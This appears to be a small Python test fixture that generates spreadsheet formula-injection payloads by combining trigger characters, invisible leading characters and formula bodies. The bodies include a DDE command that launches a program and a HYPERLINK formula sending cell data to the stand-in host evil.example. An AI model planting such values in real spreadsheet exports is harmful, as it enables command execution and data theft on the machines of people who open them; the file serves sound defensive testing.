"""Texts that a spreadsheet would compute, run or split."""

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")
BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("//evil.example/"&A1,"go")',
    "SUM(1+9)*cmd|' /C calc'!A0",
)
LEADS = ("", " ", "\u00a0", "\ufeff")
PAYLOADS = [f"{lead}{start}{body}" for start in STARTS for body in BODIES for lead in LEADS]
# Of each start, body and lead some: for tests that plant them everywhere.
SIXTY = [PAYLOADS[place * len(PAYLOADS) // 60] for place in range(60)]
